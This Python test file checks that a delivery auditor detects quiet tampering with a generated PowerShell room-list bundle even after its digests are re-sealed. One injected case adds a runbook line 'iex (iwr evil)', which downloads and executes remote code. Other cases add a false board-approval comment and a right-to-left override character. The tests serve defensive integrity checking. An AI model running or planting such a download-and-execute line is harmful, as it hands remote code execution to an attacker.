"""A delivered bundle is made again from its own manifest and rooms; nothing in it may say anything else."""

import json
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from roomscope.generator.bundle.manifest import MANIFEST
from roomscope.generator.delivery.check import audit_delivery
from roomscope.generator.delivery.intake import take

Files = dict[str, bytes]
GRANT = "50-Grant-Access.ps1"


def swap(name: str, old: str, new: str) -> Callable[[Files], Files]:
    def change(files: Files) -> Files:
        assert old.encode() in files[name], old
        return files | {name: files[name].replace(old.encode(), new.encode(), 1)}

    return change


def say(plan_id: str = "", **values: object) -> Callable[[Files], Files]:
    def change(files: Files) -> Files:
        manifest = json.loads(files[MANIFEST])
        manifest |= {"plan": manifest["plan"] | values, "plan_id": plan_id or manifest["plan_id"]}
        text = json.dumps(manifest, indent=2, sort_keys=True, ensure_ascii=False) + "\n"
        return files | {MANIFEST: text.encode()}

    return change


QUIET = {
    "a sentence in the runbook": swap("RUNBOOK.md", "# Runbook", "Run first: iex (iwr evil)\n\n# Runbook"),
    "a comment": swap(GRANT, "# The lists as they are now", "# Approved by the board. The lists as they are now"),
    "the help": swap(GRANT, "WHOLE MAILBOX", "calendar"),
    "another mark": swap(GRANT, "$bundle = 'cronofy-rooms'", "$bundle = 'others-rooms'"),
    "other accepted domains": swap("10-Test-Readiness.ps1", "@('example.com')", "@('example.org')"),
    "an owner in the scripts only": swap("30-New-RoomLists.ps1", "$listOwner = $null", "$listOwner = 'ceo@example.com'"),
    "an owner in the manifest only": say(list_owner="ceo@example.com"),
    "a plan id of another plan": say(plan_id="0" * 64),
    "another ticket": say(ticket="CHG0000000"),
    "an alias by which nobody is found": swap("30-New-RoomLists.ps1", "Alias = 'cronofy.resource.list'", "Alias = 'x'"),
    "a list that has no room": say(
        lists=[{"address": "x@example.com", "name": "X", "alias": "x", "rooms": 0}],
    ),
    "a name that is no literal": say(bundle="x\u202ey"),
}


@pytest.mark.parametrize("change", QUIET.values(), ids=QUIET)
def test_a_quiet_change_is_found_though_all_digests_were_adjusted(
    change: Callable[[Files], Files],
    article: Files,
    seal: Callable[[Mapping[str, bytes]], Files],
    put: Callable[[Mapping[str, bytes]], Path],
) -> None:
    result = audit_delivery(take(put(seal(change(article)))))
    assert {"RSA113", "RSA114"} & {finding.rule for finding in result.findings}
